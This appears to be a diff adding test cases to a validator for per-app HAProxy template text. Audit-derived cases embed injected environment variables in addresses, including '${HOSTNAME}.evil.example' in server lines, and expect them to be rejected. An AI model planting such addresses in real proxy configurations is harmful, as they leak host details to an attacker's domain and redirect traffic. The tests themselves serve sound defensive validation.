@@ -17,6 +17,11 @@ describe('appTemplateText: a per-app template label as it may be printed', () =>
       "  acl a path_reg '^/a$' ^/b\\$ \\\"$c\n",
     ],
     ['a comment is kept as written', '  mode http # "$X"\n', '  mode http # "$X"\n'],
+    [
+      'a regex anchor on a server line is no variable',
+      '  server s 10.0.0.1:80 check # $\n  http-request deny if { path_reg ^/a$ }\n',
+      '  server s 10.0.0.1:80 check # $\n  http-request deny if { path_reg ^/a$ }\n',
+    ],
     ['a quoted # is not a comment', '  http-request set-header X "#$Y"\n', '  http-request set-header X "#\\$Y"\n'],
     [
       'the word file outside a response from a file',
@@ -65,6 +70,24 @@ describe('appTemplateText: a per-app template label as it may be printed', () =>
       '\nbackend {backend}\nbackend other\n',
       /line 3 opens a "backend" section/,
     ],
+    // Found by an audit: HAProxy fills variables into addresses, quoted, escaped or not.
+    [
+      'a variable in a server address',
+      'BACKEND_SERVER_OPTIONS',
+      '  server {serverName} ${HOSTNAME}.evil.example:{port}\n',
+      /line 1 has "\$\{HOSTNAME\}.evil.example:\{port\}": HAProxy fills \$NAME/,
+    ],
+    [
+      'a quoted, escaped variable in an address',
+      'BACKEND_SERVER_OPTIONS',
+      '  server {serverName} "\\${HOSTNAME}.evil.example:{port}"\n',
+      /line 1 has .*HAProxy fills/,
+    ],
+    ['addr', 'BACKEND_SERVER_OPTIONS', '  server {serverName} {host_ipv4}:{port} addr $X\n', /HAProxy fills/],
+    ['a bind address', 'FRONTEND_HEAD', '\nfrontend {backend}\n  bind $X:{servicePort}\n', /line 3 has "\$X/],
+    ['a log server', 'BACKEND_HTTP_OPTIONS', '  log $LOGHOST:514 local0\n', /HAProxy fills/],
+    ['a source address', 'BACKEND_HTTP_OPTIONS', '  source 0.0.0.0 usesrc ${X}\n', /HAProxy fills/],
+    ['tcp-check connect addr', 'BACKEND_HTTP_OPTIONS', '  tcp-check connect addr $X port 80\n', /HAProxy fills/],
     // Found by an audit: lines are judged as HAProxy reads them, quotes and escapes undone.
     [
       'a quoted section keyword',
